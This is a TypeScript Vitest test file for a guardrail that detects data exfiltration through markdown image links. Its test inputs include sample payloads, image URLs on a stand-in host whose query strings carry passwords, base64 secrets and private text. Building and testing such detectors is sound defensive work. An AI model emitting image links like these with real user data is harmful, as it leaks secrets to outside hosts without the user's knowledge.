import { describe, expect, test } from "vitest";
import { exfiltrationDetector } from "./exfiltration-detector.ts";

function severities(text: string): readonly string[] {
  return exfiltrationDetector.find(text, {}).map(({ severity }) => severity);
}

describe("an image whose address carries data stops a guardrail", () => {
  test.each([
    "![](https://a.example/p.png?d=hunter2)",
    "![](https://a.example/p.png?style=flat&d=c2VjcmV0)",
    "![](https://a.example/p.png?style=c2VjcmV0LXRva2VuLWFuZC1tb3Jl)",
    "![](https://a.example/p.png?size=48151623)",
    "![](https://a.example/p.png?hunter2)",
    "![](https://a.example/p.png?hunter=2)",
    `![](https://a.example/p.png?${"a=123&".repeat(9)}b=1)`,
    "[![ok](https://a.example/b.svg)](https://b.example/) ![](https://a.example/?q=private+words)",
  ])("%s", (text) => {
    expect(severities(text)).toEqual(["high"]);
  });
});

describe("badges and pictures of a size do not", () => {
  test.each([
    "![build](https://a.example/badge.svg?branch=main)",
    "[![build](https://a.example/badge.svg?branch=main&event=push)](https://a.example/builds?query=is%3Aopen)",
    '<img src="https://a.example/u/1?v=4?s=100&amp;theme=dark">',
  ])("%s", (text) => {
    expect(severities(text)).toEqual(["low"]);
  });

  test("what is after # is sent to nobody", () => {
    expect(severities("![logo](https://a.example/logo.svg#gh-dark-mode-only)")).toEqual([]);
  });
});
